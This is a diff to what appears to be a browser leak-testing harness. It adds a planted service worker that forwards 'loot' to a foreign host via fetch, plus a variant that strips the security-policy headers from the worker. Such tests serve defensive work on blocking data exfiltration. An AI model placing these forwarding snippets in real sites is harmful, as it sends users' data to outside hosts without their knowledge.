@@ -108,6 +108,22 @@ const forwarder = (mark: string): Alter => {
   return (path) => (path === `/${mark}.js` ? { status: 200, headers: { 'content-type': 'text/javascript' }, body: code } : null)
 }
 
+const serviceWorkerScript = /^\/service-worker\.js$/
+
+/** The same in the service worker that there is. */
+const ownForwarder = (mark: string, stunPort: number): Alter => {
+  const code = `addEventListener('message', ({ data }) => data.mark === '${mark}' && fetch('http://${foreignHost}/${mark}?' + encodeURIComponent(data.loot), { mode: 'no-cors' }))`
+  return both(
+    planted(serviceWorkerScript, code),
+    inPage(async ({ own, loot }) => {
+      const { active } = await navigator.serviceWorker.ready
+      active?.postMessage({ mark: own.slice(1).split('?')[0], loot })
+    })(mark, stunPort),
+  )
+}
+
+const serviceWorkerWithoutPolicy: Alter = (path, answer) => (serviceWorkerScript.test(path) ? withoutPolicy(answer) : null)
+
 const plants: Record<string, (mark: string, stunPort: number) => Alter> = {
   // Eleven ways to send a request to another host.
   fetch: inPage(({ foreign }) => void fetch(foreign, { mode: 'no-cors' })),
@@ -164,6 +180,8 @@ const plants: Record<string, (mark: string, stunPort: number) => Alter> = {
         active?.postMessage(loot)
       })(mark, stunPort),
     ),
+  'our own service worker': ownForwarder,
+  'our own service worker without headers': (mark, stunPort) => both(serviceWorkerWithoutPolicy, ownForwarder(mark, stunPort)),
   'error report': inPage(({ own, loot }) => {
     addEventListener('error', ({ message }) => void fetch(own.split('?')[0], { method: 'POST', body: message }))
     setTimeout(() => {
@@ -194,6 +212,7 @@ const alone = new Set([
   'navigation',
   'own navigation',
   'service worker',
+  'our own service worker without headers',
   'engine without headers',
   'own importScripts',
   'own nested worker',
